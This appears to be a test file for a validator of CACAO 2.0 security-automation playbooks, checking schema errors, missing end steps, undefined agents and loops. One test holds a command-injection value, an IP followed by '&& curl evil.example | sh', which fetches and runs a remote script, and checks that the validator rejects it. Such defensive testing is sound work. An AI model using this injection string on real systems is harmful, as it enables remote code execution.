import assert from 'node:assert/strict';
import { validateCacao } from '../../../../lib/playbooks/cacao';
import { NEGATIVE, sample, validSampleNames } from './samples';

describe('CACAO 2.0 validation (schema + semantic checks)', function () {
  for (const name of validSampleNames()) {
    it(`accepts ${name}`, function () {
      const result = validateCacao(sample(name));
      assert.deepEqual(result.errors, []);
      assert.equal(result.valid, true);
    });
  }

  for (const [name, reason] of Object.entries(NEGATIVE)) {
    it(`refuses ${name} and says why`, function () {
      const result = validateCacao(sample(name));
      assert.equal(result.valid, false);
      assert.ok(
        result.errors.some((e) => reason.test(e)),
        `expected an error matching ${String(reason)}, got:\n${result.errors.join('\n')}`,
      );
    });
  }

  it('says the infinite playbook also never reaches an end', function () {
    const { errors } = validateCacao(sample('soarca-test-infinite_playbook.json'));
    assert.ok(errors.includes('the workflow has no end step: the playbook never finishes'), errors.join('\n'));
  });

  it('flags, without refusing, what real playbooks carry beyond the schema', function () {
    const { valid, warnings } = validateCacao(sample('soarca-test-playbook.json'));
    assert.equal(valid, true);
    assert.ok(
      warnings.some((w) => /unknown property "banana"/.test(w)),
      warnings.join('\n'),
    );
  });

  it('refuses what the schema forbids, naming the path', function () {
    const doc = structuredClone(sample('soarca-ssh-playbook.json'));
    doc.spec_version = 'cacao-1.0';
    const end = Object.keys(doc.workflow).find((id) => id.startsWith('end--'))!;
    doc.workflow[end]!.on_completion = end;
    const { valid, errors } = validateCacao(doc);
    assert.equal(valid, false);
    assert.ok(
      errors.some((e) => /^spec_version: must be one of "cacao-2.0"/.test(e)),
      errors.join('\n'),
    );
    assert.ok(
      errors.some((e) => e.startsWith(`workflow.${end}: has a property its step type forbids`)),
      errors.join('\n'),
    );
  });

  it('refuses a workflow entry that is no CACAO step', function () {
    const doc = structuredClone(sample('soarca-ssh-playbook.json'));
    doc.workflow['script--00000000-0000-4000-8000-000000000000'] = { type: 'script' };
    const { valid, errors } = validateCacao(doc);
    assert.equal(valid, false);
    assert.ok(
      errors.some((e) =>
        e.startsWith('workflow.script--00000000-0000-4000-8000-000000000000: not a CACAO 2.0 step id'),
      ),
      errors.join('\n'),
    );
  });

  it('refuses a typed variable whose value would inject into a command', function () {
    const doc = structuredClone(sample('soarca-ssh-playbook.json'));
    doc.playbook_variables = { __target_ip__: { type: 'ipv4-addr', value: '10.0.0.1 && curl evil.example | sh' } };
    const { errors } = validateCacao(doc);
    assert.ok(
      errors.some((e) => /^playbook_variables\.__target_ip__\.value contains the shell metacharacter "&"/.test(e)),
      errors.join('\n'),
    );
  });

  it('refuses an agent that a step names but nobody defines', function () {
    const doc = structuredClone(sample('soarca-ssh-playbook.json'));
    const action = Object.keys(doc.workflow).find((id) => id.startsWith('action--'))!;
    doc.workflow[action]!.agent = 'ssh--00000000-0000-4000-8000-000000000000';
    const { errors } = validateCacao(doc);
    assert.ok(
      errors.includes(
        `workflow.${action}.agent names ssh--00000000-0000-4000-8000-000000000000, which is not in agent_definitions`,
      ),
      errors.join('\n'),
    );
  });

  it('accepts a loop that goes through a while-condition', function () {
    const { valid, errors } = validateCacao(sample('soarca-docs-example-playbook-if-while-openc2.json'));
    assert.deepEqual(errors, []);
    assert.equal(valid, true);
  });

  it('refuses a value that is not an object', function () {
    assert.deepEqual(validateCacao('playbook'), {
      valid: false,
      errors: ['a CACAO playbook is a JSON object'],
      warnings: [],
    });
  });
});
